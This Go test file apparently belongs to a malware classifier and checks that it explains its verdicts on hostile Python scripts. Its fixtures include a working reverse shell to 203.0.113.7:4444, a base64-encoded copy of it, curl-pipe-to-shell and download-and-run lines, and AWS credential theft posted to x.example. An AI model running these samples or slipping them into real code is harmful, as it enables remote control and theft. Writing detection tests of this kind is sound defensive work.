package classify

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"os"
	"slices"
	"strings"
	"testing"

	"kingsnake/normalize"
)

// saying is a model that weighs every behavior and pair of behaviors alike.
func saying(t testing.TB) *Model {
	t.Helper()
	tables := NewTables[int8]()
	for i := range pairMarks {
		tables.CoreMark[i] = 1
	}
	m, err := New(tables, Calibration{Slope: 1}, Thresholds{Suspicious: 1e-300, Malicious: 0.5})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestReasonsNameValues(t *testing.T) {
	shell := "import socket,subprocess,os\ns=socket.socket()\ns.connect((\"203.0.113.7\",4444))\nos.dup2(s.fileno(),0)\nsubprocess.call([\"/bin/sh\",\"-i\"])\n"
	for _, test := range []struct{ name, script, text, where string }{
		{"a reverse shell", shell,
			"The script connects to 203.0.113.7:4444 and gives the connection to `/bin/sh -i`.", "lines 2-5"},
		{"one that is decoded", "import base64\nexec(base64.b64decode('" + base64.StdEncoding.EncodeToString([]byte(shell)) + "'))\n",
			"The script connects to 203.0.113.7:4444 and gives the connection to `/bin/sh -i`.", "decoded from base64 at line 2"},
		{"values with names", "import socket,os\nHOST = '203.0.113.7'\nPORT = 4444\ns = socket.socket()\ns.connect((HOST, PORT))\nos.dup2(s.fileno(), 1)\nos.system('/bin/sh')\n",
			"The script connects to 203.0.113.7:4444 and gives the connection to /bin/sh.", "2"},
		{"a command before the shell", "import socket,subprocess,os\nos.system('touch /tmp/a')\ns=socket.socket()\ns.connect(('203.0.113.7',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n",
			"The script connects to 203.0.113.7:4444 and gives the connection to `/bin/sh -i`.", "lines 3-6"},
		{"a download that is run", "import os, urllib.request\nu = 'http://203.0.113.7/x.sh'\nurllib.request.urlretrieve(u, '/tmp/x.sh')\nos.system('/tmp/x.sh')\n",
			"The script downloads http://203.0.113.7/x.sh and runs it: /tmp/x.sh.", "4"},
		{"a download through a file", "import os, requests\nr = requests.get('http://203.0.113.7/x')\nwith open('/tmp/x', 'wb') as f:\n    f.write(r.content)\nos.system('/tmp/x')\n",
			"The script downloads http://203.0.113.7/x and runs it: /tmp/x.", "5"},
		{"a download beside a command", "import os, requests\nrequests.get('http://203.0.113.7/x')\nos.system('ls -l')\n",
			"The script downloads http://203.0.113.7/x and runs `ls -l`.", "lines 2-3"},
		{"a secret that is sent", "import requests\nk = open('/home/app/.aws/credentials').read()\nprint(1)\nrequests.post('https://x.example/collect', data=k)\n",
			"The script reads cloud credentials (/home/app/.aws/credentials) and sends that to https://x.example/collect.", "lines 2, 4"},
		{"a secret beside a request", "import requests\nk = open('/home/app/.aws/credentials').read()\nrequests.post('https://x.example/collect', data=1)\n",
			"The script reads cloud credentials (/home/app/.aws/credentials) and sends data to https://x.example/collect.", "lines 2-3"},
		{"code from the network", "import requests\nexec(requests.get('https://x.example/a.py').text)\n",
			"The script downloads code from https://x.example/a.py and executes it.", "line 2"},
		{"an f-string", "import os, sys\nx = sys.argv[1]\nos.system(f'curl http://203.0.113.7/{x} -o /tmp/a')\n",
			"The script runs the command `curl http://203.0.113.7/… -o /tmp/a`.", "line 3"},
		{"an unknown program", "import subprocess, sys\nsubprocess.call([sys.argv[1], '--now'])\n", "The script starts `… --now`.", "line 2"},
		{"a list", "import subprocess\nsubprocess.call(('/bin/sh', '-c', 'id'))\n", "The script starts `/bin/sh -c id`.", "line 2"},
		{"a hostile value", "import os\nos.system('a`b\\x1b[2J\\u202e')\n",
			"The script runs the command `a'b\\u001b[2J\\u202e`.", "line 2"},
		{"no value", "import os\nos.system(x)\n", "The script runs shell commands.", "line 2"},
	} {
		t.Run(test.name, func(t *testing.T) {
			v := saying(t).Judge(normalize.Normalize([]byte(test.script)))
			k := slices.IndexFunc(v.Reasons, func(r Reason) bool { return r.Text == test.text })
			if k < 0 {
				for _, r := range v.Reasons {
					t.Errorf("said %q (%s)", r.Text, r.Where)
				}
				t.Fatalf("want %q", test.text)
			}
			r := v.Reasons[k]
			if !strings.Contains(r.Where, test.where) {
				t.Errorf("where %q, want %q in it", r.Where, test.where)
			}
			if r.Technique == "" || len(r.Behaviors) == 0 || len(r.Spans) == 0 {
				t.Errorf("%+v", r)
			}
			if strings.ContainsAny(r.Plain, "`/0123456789") || r.Plain == "" {
				t.Errorf("plain %q quotes the script", r.Plain)
			}
		})
	}
}

func TestWeightsOfReasonsAddUp(t *testing.T) {
	m := saying(t)
	text := normalize.Normalize([]byte("import os, requests, time\nos.system(requests.get('http://203.0.113.7/x').text)\ntime.sleep(1)\n"))
	v := m.Judge(text)
	sum := 0.0
	for _, r := range v.Reasons {
		sum += r.Weight
	}
	x := extract(text)
	defer x.release()
	f := x.view()
	if want := m.Logit(&f); sum < want-1e-3 || sum > want+1e-3 {
		t.Errorf("reasons weigh %v, the score %v", sum, want)
	}
}

func TestTemplatesAreSound(t *testing.T) {
	check := func(t *testing.T, text template, needsNone bool) {
		t.Helper()
		full, ok := text.fill(func(slot string) string {
			if !slices.Contains([]string{slotHost, slotURL, slotCommand, slotPath, slotName}, slot) {
				t.Errorf("%q has the unknown slot %q", text, slot)
			}
			return "value"
		})
		if !ok || strings.ContainsAny(full, "{}|") {
			t.Errorf("%q became %q", text, full)
		}
		if empty, ok := text.fill(none); needsNone && (!ok || strings.ContainsAny(empty, "{}|")) {
			t.Errorf("%q became %q without values", text, empty)
		}
	}
	for id, text := range concrete {
		if _, ok := words().byID[id]; !ok {
			t.Errorf("no behavior %q", id)
		}
		check(t, text, false)
	}
	for _, list := range [][]string{context, details} {
		for _, id := range list {
			if _, ok := words().byID[id]; !ok {
				t.Errorf("no behavior %q", id)
			}
		}
	}
	for _, j := range joints {
		check(t, j.flows, true)
		check(t, j.says, true)
	}
	for _, text := range sends {
		check(t, text, true)
	}
}

func TestHosts(t *testing.T) {
	for text, want := range map[string]string{
		"203.0.113.7": "203.0.113.7", "203.0.113.7:80": "203.0.113.7:80", "x.example": "x.example", "::1": "::1",
		"localhost": "localhost", "tcp://x.example:1/a": "x.example:1",
		"": "", "hello": "", "a b.example": "", "1.2.3": "", "x.example:99999": "", "..": "", "-": "", "a.1": "",
	} {
		if got := hostIn(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

func TestURLs(t *testing.T) {
	for text, want := range map[string]string{
		"curl http://203.0.113.7/x | sh": "http://203.0.113.7/x", "https://a.example/b?c=d": "https://a.example/b?c=d",
		"http://": "", "http://…": "", "none": "", "see ftp://x.example": "ftp://x.example",
	} {
		if got := urlIn(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// BenchmarkReasonsOfHostileText is texts with as many statements, values and
// behaviors as fit: what reasons cost is bounded.
func BenchmarkReasonsOfHostileText(b *testing.B) {
	var every strings.Builder
	every.WriteString("import os, socket, subprocess, requests, base64\n")
	for i := range 4000 {
		every.WriteString("a = requests.get('http://203.0.113.7/' + a); os.system(a + '/tmp/x' + 'y')\nb = base64.b64decode(a); exec(b); s.connect((a, 1))\n")
		if i%2 == 0 {
			every.WriteString("with open(a) as f: f.write(b + '/etc/shadow' + '.ssh/id_rsa' + 'powershell' + 'xmrig' + 'keylog')\n")
		}
	}
	for name, src := range map[string]string{
		"statements": every.String(),
		"one":        "import os\nos.system(" + strings.Repeat("'a' + x + 'b' + 'c', ", 20_000) + ")\n",
		"long":       "import os\nos.system('" + strings.Repeat("curl http://203.0.113.7/ ", 10_000) + "')\n",
	} {
		text := normalize.Normalize([]byte(src))
		m := saying(b)
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(src)))
			for b.Loop() {
				m.Judge(text)
			}
		})
	}
}

// Of compiled code, the lines count that were compiled.
func TestWhereNamesTheCompiledLine(t *testing.T) {
	code, err := os.ReadFile("../normalize/bytecode/testdata/lines/3.11.pyc")
	if err != nil {
		t.Fatal(err)
	}
	var archive bytes.Buffer
	z := zip.NewWriter(&archive)
	w, err := z.Create("pkg/__main__.pyc")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(code); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	coded := base64.StdEncoding.EncodeToString(code[16:])
	for name, test := range map[string]struct{ src, want string }{
		"a .pyc":     {string(code), " of the compiled source, decoded from pyc"},
		"marshal":    {"import marshal, base64\nexec(marshal.loads(base64.b64decode('" + coded + "')))\n", " of the compiled source, decoded from base64+marshal at line 2"},
		"an archive": {archive.String(), " of the compiled source of pkg/__main__.pyc, decoded from zip+pyc"},
	} {
		v := saying(t).Judge(normalize.Normalize([]byte(test.src)))
		var all []string
		found := false
		for _, r := range v.Reasons {
			all = append(all, r.Where)
			found = found || strings.HasSuffix(r.Where, "line 11"+test.want)
		}
		if !found {
			t.Errorf("%s: no reason stands on %q, but on %q", name, "line 11"+test.want, all)
		}
	}
}

func TestWhereNamesTheFileInAnArchive(t *testing.T) {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, err := z.Create("pkg/__main__.py")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write([]byte("import os\n\nos.system('curl http://203.0.113.7/a | sh')\n")); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	v := saying(t).Judge(normalize.Normalize(b.Bytes()))
	if len(v.Reasons) == 0 {
		t.Fatal("no reasons")
	}
	if got, want := v.Reasons[0].Where, "line 3 of pkg/__main__.py, decoded from zip"; got != want {
		t.Errorf("where %q, want %q", got, want)
	}
}
